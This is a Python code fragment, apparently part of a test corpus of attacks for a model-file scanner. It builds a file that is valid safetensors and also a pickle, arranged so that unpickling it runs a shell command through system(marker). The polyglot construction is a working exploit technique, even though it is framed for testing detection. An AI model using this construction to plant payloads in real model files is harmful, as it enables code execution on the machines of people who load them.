def safetensors_of(data: bytes, header: bytes | None = None) -> bytes:
    head = (
        json.dumps(
            {"w": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}
        ).encode()
        if header is None
        else header
    )
    return struct.pack("<Q", len(head)) + head + data


def safetensors_of_pickle(marker: str) -> bytes:
    """Valid safetensors that is a pickle as well.

    The length of the header, 0x2058, is `X` with a length of 32 to an unpickler: a text that ends inside of the metadata. There
    `C~` skips 126 bytes at a time, to where the data begins.
    """
    payload = system(marker) + STOP
    nbytes, at = 0x2058, 5 + 0x20 - 8
    start = '{"__metadata__":{"a":"'
    end = f'"}},"w":{{"dtype":"U8","shape":[{len(payload)}],"data_offsets":[0,{len(payload)}]}}}}'
    header = bytearray((start + "x" * (nbytes - len(start) - len(end)) + end).encode())
    assert len(header) == nbytes
    while at < nbytes:
        hop = min(nbytes - at - 2, 126)
        if 0 < nbytes - at - 2 - hop < 100:
            hop -= 60
        header[at : at + 2] = bytes([ord("C"), hop])
        at += 2 + hop
    json.loads(header)
    return struct.pack("<Q", nbytes) + bytes(header) + payload


ATTACKS: tuple[Attack, ...] = (*functions(), *how(), *broken(), *frames(), *where(), *in_joblib())
